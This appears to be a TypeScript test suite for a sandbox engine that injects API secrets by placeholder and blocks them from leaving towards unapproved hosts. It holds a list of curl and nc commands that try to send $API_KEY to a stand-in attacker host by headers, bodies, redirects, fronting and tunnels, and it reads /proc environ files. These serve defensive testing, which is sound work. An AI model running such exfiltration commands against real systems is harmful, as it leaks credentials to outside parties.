import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import { promisify } from 'node:util';
import { waitUntil } from '@svc/contract/testing';
import { API, CLIENTS_IMAGE, EVIL, HttpsInternet, PLACEHOLDER, VALUE } from './https-internet.ts';
import { CLASSES, type TestSandbox } from './sandbox-fixture.ts';
import type { TestEngine } from './start-engine.ts';

const NEXT_VALUE = 'sk-live-0815-next';

let world: HttpsInternet;
let engine: TestEngine;
before(async () => {
  world = await HttpsInternet.start();
  ({ engine } = world);
});
after(() => world[Symbol.asyncDispose]());

for (const isolation of CLASSES) {
  describe(`on class ${isolation}`, { concurrency: false }, () => {
    let sandbox: TestSandbox;
    before(async () => {
      sandbox = await world.startClient(isolation, world.network());
    });
    after(() => sandbox.remove());

    test('clients use a secret towards its host without holding it', async () => {
      world.forget();
      const curl = await sandbox.sh(`curl -sS -H "X-Key: $API_KEY" https://${API}/curl`);
      assert.deepEqual([curl.stdout, curl.stderr], [`hello from ${API}\n`, '']);
      const script = `fetch('https://${API}/fetch', { headers: { authorization: 'Bearer ' + process.env.API_KEY } })
        .then((answer) => answer.text()).then(console.log)`;
      const node = await sandbox.run({ cmd: '/usr/bin/node', args: ['-e', script] });
      assert.match(node.stdout, /^hello from/, node.stderr);
      const basic = await sandbox.sh(`curl -sS -u "me:$API_KEY" https://${API}/basic`);
      assert.equal(basic.code, 0, basic.stderr);
      const said = world.requestsTo(API).map((request) => request.said);
      assert.ok(
        said.some((text) => text.startsWith('GET /curl') && text.includes(`X-Key ${VALUE}`)),
        said[0],
      );
      assert.ok(
        said.some((text) => text.startsWith('GET /fetch') && text.includes(`Bearer ${VALUE}`)),
        said[1],
      );
      const credentials = Buffer.from(`me:${VALUE}`).toString('base64');
      assert.ok(
        said.some((text) => text.startsWith('GET /basic') && text.includes(credentials)),
        said[2],
      );
      const inside = await sandbox.sh('env; cat /proc/*/environ 2>/dev/null');
      assert.ok(inside.stdout.includes(`API_KEY=${PLACEHOLDER}`) && !inside.stdout.includes(VALUE));
    });

    const attacks: readonly (readonly [title: string, line: string])[] = [
      ['in a header', `curl -sS -m 20 -H "X: $API_KEY" https://${EVIL}/`],
      ['in a path', `curl -sS -m 20 'https://${EVIL}/x/$MSB_API_KEY'`],
      ['in a query, encoded', `curl -sS -m 20 'https://${EVIL}/?k=%24MSB%5fAPI_KEY'`],
      ['in a body', `curl -sS -m 20 -d "k=$API_KEY" https://${EVIL}/`],
      [
        'in a body that is JSON with escapes',
        `curl -sS -m 20 -d '{"k":"\\u0024MSB_API_KEY"}' https://${EVIL}/`,
      ],
      [
        'in a chunked body',
        `curl -sS -m 20 -H 'Transfer-Encoding: chunked' -d "k=$API_KEY" https://${EVIL}/`,
      ],
      ['in basic credentials', `curl -sS -m 20 -u "me:$API_KEY" https://${EVIL}/`],
      ['over a redirect', `curl -sS -m 20 -L --location-trusted -H "X: $API_KEY" https://${API}/elsewhere`],
      [
        'under the name of another host',
        `curl -sS -m 20 -H "X: $API_KEY" -H 'Host: ${EVIL}' https://${API}/fronted`,
      ],
      ['at the address of its host', `curl -sS -m 20 -k -H "X: $API_KEY" https://ADDRESS/address`],
      [
        'at an address by another name',
        `curl -sS -m 3 -H "X: $API_KEY" --resolve ${API}:443:10.9.9.9 https://${API}/`,
      ],
      ['through a tunnel', `curl -sS -m 20 -p -x https://${EVIL}:443 -H "X: $API_KEY" https://${API}/tunnel`],
    ];
    for (const [title, line] of attacks) {
      test(`a secret does not leave ${title}`, async () => {
        world.forget();
        const { code } = await sandbox.sh(line.replace('ADDRESS', world.internet.publicAddress));
        if (title !== 'under the name of another host') assert.notEqual(code, 0, 'it is stopped');
        const control = await sandbox.sh(`curl -sS https://${API}/control`);
        assert.equal(control.code, 0, control.stderr);
        // What was sent earlier arrived earlier.
        await waitUntil(() => world.requests.some((request) => request.said.includes('/control')));
        assert.deepEqual(
          world.begun.filter((begun) => begun.startsWith(EVIL)),
          [],
          'not even the head of the request arrived',
        );
        const elsewhere = world.requests.filter(({ name, said }) => name !== API || said.includes(EVIL));
        assert.ok(!JSON.stringify(elsewhere).includes(VALUE), JSON.stringify(world.requests));
      });
    }

    test('a violation is reported', async () => {
      await waitUntil(() =>
        world.events.some(({ type, sandboxId }) => type === 'secret_violation' && sandboxId === sandbox.id),
      );
      const events = JSON.stringify(world.events);
      assert.ok(events.includes('API_KEY') && !events.includes(VALUE));
    });
  });
}

test('without proof of identity a secret is used and held over plain HTTP as over TLS, at every port', async () => {
  const sandbox = await world.startClient('container', world.network({}, { require_tls_identity: false }));
  try {
    for (const port of [80, 8081]) {
      world.forget();
      const given = await sandbox.sh(`curl -sS -H "X-Key: $API_KEY" http://${API}:${port}/plain`);
      assert.deepEqual([given.stdout, given.stderr], [`hello from ${API}\n`, '']);
      const isUsed = () => world.requestsTo(API)[0]?.said.includes(`X-Key ${VALUE}`) === true;
      // The host tells of a request on a way of its own, which may take longer than its answer.
      await waitUntil(isUsed, { what: 'the host has the value' });
      const late = `(sleep 1; printf 'GET /late HTTP/1.1\\r\\nHost: ${EVIL}\\r\\nX: %s\\r\\n\\r\\n' "$API_KEY"; sleep 1)`;
      const attempts = [
        `curl -sS -m 20 -H "X: $API_KEY" http://${EVIL}:${port}/`,
        `curl -sS -m 20 --http2-prior-knowledge -H "X: $API_KEY" http://${EVIL}:${port}/`,
        `${late} | timeout 20 nc ${EVIL} ${port} | grep HTTP`,
      ];
      for (const line of attempts) assert.notEqual((await sandbox.sh(line)).code, 0, line);
      assert.deepEqual(world.requestsTo(EVIL), []);
      assert.ok(!world.begun.some((begun) => begun.startsWith(EVIL)), world.begun.join());
    }
    await waitUntil(() => world.events.filter(({ sandboxId }) => sandboxId === sandbox.id).length >= 2);
    const greeting = await sandbox.sh(`echo hi | timeout 5 nc ${API} 8080`);
    assert.match(greeting.stdout, /^you are .*\nhi\n/, 'what is no HTTP goes on as it is');
  } finally {
    await sandbox.remove();
  }
});

test('a value is found nowhere on the host but in files of memory that only root reads', async () => {
  const sandbox = await world.startClient('container', world.network());
  try {
    await sandbox.sh(`curl -sS -m 20 -H "X: $API_KEY" https://${EVIL}/`);
    await promisify(execFile)('sync', []);
    const { stdout } = await promisify(execFile)('sh', [
      '-c',
      `grep -rlF ${VALUE} ${engine.folder}/sandboxes ${engine.logFile} || true`,
    ]);
    assert.equal(stdout, '');
    const lines = readdirSync('/proc')
      .filter((name) => /^\d+$/.test(name) && name !== String(process.pid))
      .map((pid) => read(`/proc/${pid}/cmdline`) + read(`/proc/${pid}/environ`));
    assert.ok(!lines.some((text) => text.includes(VALUE)));
    assert.ok(!JSON.stringify(await engine.client.listSandboxes()).includes(VALUE));
  } finally {
    await sandbox.remove();
  }
});

function read(path: string): string {
  try {
    return readFileSync(path, 'utf8');
  } catch {
    return '';
  }
}

test('a value changes while the sandbox runs, and outlives the engine', async () => {
  const sandbox = await world.startClient('container', world.network());
  const ask = async (path: string) => {
    const { code, stderr } = await sandbox.sh(
      `curl -sS --retry 5 --retry-all-errors -H "X-Key: $API_KEY" https://${API}${path}`,
    );
    assert.equal(code, 0, stderr);
    return world.requestsTo(API).findLast(({ said }) => said.includes(path))?.said ?? '';
  };
  try {
    assert.match(await ask('/first'), new RegExp(VALUE));
    await engine.client.setNetwork(sandbox.id, { secretValues: { API_KEY: NEXT_VALUE } });
    assert.match(await ask('/second'), new RegExp(NEXT_VALUE));
    await engine.restart();
    assert.match(await ask('/third'), new RegExp(NEXT_VALUE));
    await engine.client.stopSandbox(sandbox.id);
    await engine.client.startSandbox(sandbox.id);
    assert.match(await ask('/fourth'), new RegExp(NEXT_VALUE));
  } finally {
    await sandbox.remove();
  }
});

test('a violation with block_and_terminate ends the sandbox; without the value none starts', async () => {
  const sandbox = await world.startClient(
    'container',
    world.network({}, { on_violation: { type: 'block_and_terminate' } }),
  );
  try {
    await sandbox.sh(`curl -sS -m 20 -H "X: $API_KEY" https://${EVIL}/`).catch(() => undefined);
    await waitUntil(async () => (await engine.client.getSandbox(sandbox.id)).state === 'failed');
    const { end } = await engine.client.getSandbox(sandbox.id);
    assert.equal(end?.reason, 'secret_violation');
  } finally {
    await sandbox.remove();
  }
  const spec = { image: { type: 'oci', reference: CLIENTS_IMAGE } as const, network: world.network() };
  await assert.rejects(
    engine.client.createSandbox({ spec, start: true, isolation: 'container' }),
    /network\.secrets\.entries\[0\]\.value/,
  );
});

test('addresses that a program remembers are good for names after a restart of the engine', async () => {
  const rules = [
    { direction: 'egress', action: 'allow', destination: { domain: API } },
    { direction: 'egress', action: 'allow', destination: { domain: EVIL } },
  ] as const;
  const sandbox = await world.startClient('container', world.network({ policy: { rules: [...rules] } }));
  const remembered = (name: string) =>
    sandbox.sh(
      `curl -sS -m 60 --retry 5 --retry-all-errors --resolve ${name}:443:${world.internet.publicAddress} https://${name}/`,
    );
  try {
    await sandbox.sh(`nslookup ${API}`);
    await engine.restart();
    assert.equal((await remembered(API)).stdout, `hello from ${API}\n`);
    world.forget();
    assert.notEqual((await remembered(EVIL)).code, 0, 'it never resolved this one');
    assert.deepEqual(world.begun, []);
  } finally {
    await sandbox.remove();
  }
});

test('strict names are reached over TLS and HTTP, and not by what says no name', async () => {
  const allowed = { direction: 'egress', action: 'allow', destination: { domain: API } } as const;
  const { tls: read } = world.network();
  const strict = { strict: true, policy: { rules: [allowed] } };
  const sandbox = await world.startClient('container', { ...strict, tls: { ...read, enabled: true } });
  const unread = await world.startClient('container', strict);
  try {
    world.forget();
    const claimed = await unread.sh(`curl -sSk -m 20 https://${API}/claimed`);
    assert.notEqual(claimed.code, 0, 'a request that is not read may have any receiver');
    assert.deepEqual(world.begun, []);
    const tls = await sandbox.sh(`curl -sS -m 20 https://${API}/strict`);
    assert.equal(tls.stdout, `hello from ${API}\n`, tls.stderr);
    const foreign = await sandbox.sh(
      `curl -sSk -m 20 --resolve ${EVIL}:443:${world.internet.publicAddress} https://${EVIL}/`,
    );
    assert.notEqual(foreign.code, 0);
    const silent = await sandbox.sh(`echo hi | timeout 5 nc ${API} 8080`);
    assert.ok(!silent.stdout.includes('you are'), silent.stdout);
    assert.deepEqual(world.requestsTo(EVIL), []);
  } finally {
    await sandbox.remove();
    await unread.remove();
  }
});
